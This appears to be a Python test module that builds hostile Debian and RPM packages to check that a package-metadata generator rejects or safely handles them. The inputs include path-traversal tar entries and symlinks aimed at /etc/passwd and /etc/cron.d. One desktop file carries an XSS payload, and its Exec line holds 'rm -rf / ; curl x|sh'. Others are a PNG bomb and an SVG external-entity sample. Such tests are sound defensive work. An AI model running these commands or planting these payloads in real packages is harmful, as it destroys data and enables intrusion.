"""The bad inputs the generator must survive, each with the reason the report must give."""

from __future__ import annotations

import lzma
import tarfile
from pathlib import Path

from tests.extract import samples
from tests.extract.packages import Link, build_deb, build_rpm, hand_made_deb, tar_bytes

SCALABLE = "usr/share/icons/hicolor/scalable/apps"


def build_hostile_inputs(directory: Path) -> dict[str, tuple[str, str]]:
    """Write bad packages into ``directory``; returns file name → (status, reason tag)."""
    directory.mkdir(parents=True, exist_ok=True)
    expected: dict[str, tuple[str, str]] = {}

    good = build_deb(directory, "truncated", samples.mines_files())
    data = good.read_bytes()
    good.write_bytes(data[: len(data) // 2])
    expected[good.name] = ("failed", "corrupt-archive")

    rpm = build_rpm(directory, "truncated-rpm", samples.mines_files())
    rpm.write_bytes(rpm.read_bytes()[:-200])
    expected[rpm.name] = ("failed", "corrupt-archive")

    lz4 = hand_made_deb(directory / "lz4_1_all.deb", "lz4", b"\x04\x22\x4d\x18junk", "data.tar.lz4")
    expected[lz4.name] = ("failed", "unknown-compression")

    garbage = directory / "garbage_1_all.deb"
    garbage.write_bytes(b"this is not an ar archive at all")
    expected[garbage.name] = ("failed", "corrupt-archive")

    # Path traversal and absolute names: the traversal copy must not land anywhere.
    entries = [
        (tarfile.TarInfo("./usr/share/applications/../../../../../../tmp/evil.desktop"), b"x"),
        (tarfile.TarInfo("/etc/cron.d/evil"), b"x"),
        (tarfile.TarInfo("./usr/share/applications/evil.desktop"), b"[Desktop Entry]\n"),
    ]
    link = tarfile.TarInfo("./usr/share/icons/hicolor/64x64/apps/evil.png")
    link.type, link.linkname = tarfile.SYMTYPE, "../../../../../../../../etc/passwd"
    traversal = hand_made_deb(
        directory / "traversal_1_all.deb",
        "traversal",
        lzma.compress(tar_bytes([*entries, link])),
        "data.tar.xz",
    )
    expected[traversal.name] = ("not-application", "desktop-not-application")

    outside = build_deb(
        directory,
        "symlink-out",
        samples.app_files(
            "org.example.Out",
            samples.desktop("Out", "org.example.Out"),
            {"usr/share/icons/hicolor/64x64/apps/org.example.Out.png": Link("/etc/passwd")},
        ),
    )
    expected[outside.name] = ("not-application", "icon-not-found")

    utf8 = build_deb(
        directory, "bad-utf8", samples.app_files("org.example.Utf", b"[Desktop Entry]\nName=\xff\n")
    )
    expected[utf8.name] = ("not-application", "desktop-invalid-utf8")

    long_line = build_deb(
        directory,
        "long-line",
        samples.app_files(
            "org.example.Long",
            "[Desktop Entry]\nType=Application\nIcon=org.example.Long\nName=" + "A" * 1_000_000,
        ),
    )
    expected[long_line.name] = ("not-application", "desktop-no-name")

    markup = build_deb(
        directory,
        "markup-name",
        samples.app_files(
            "org.example.Markup",
            samples.desktop(
                "<b>Bold</b><img src=x onerror=alert(1)>", "org.example.Markup"
            ).replace("Exec=org.example.Markup", "Exec=sh -c 'rm -rf / ; curl x|sh'"),
        ),
    )
    expected[markup.name] = ("application", "")

    bomb = build_deb(
        directory,
        "png-bomb",
        samples.app_files(
            "org.example.Bomb",
            samples.desktop("Bomb", "org.example.Bomb"),
            {"usr/share/icons/hicolor/64x64/apps/org.example.Bomb.png": samples.huge_png_header()},
        ),
    )
    expected[bomb.name] = ("not-application", "icon-invalid")

    xxe = build_deb(
        directory,
        "svg-xxe",
        samples.app_files(
            "org.example.Xxe",
            samples.desktop("Xxe", "org.example.Xxe"),
            {f"{SCALABLE}/org.example.Xxe.svg": samples.EXTERNAL_ENTITY_SVG},
        ),
    )
    expected[xxe.name] = ("not-application", "icon-invalid")
    return expected
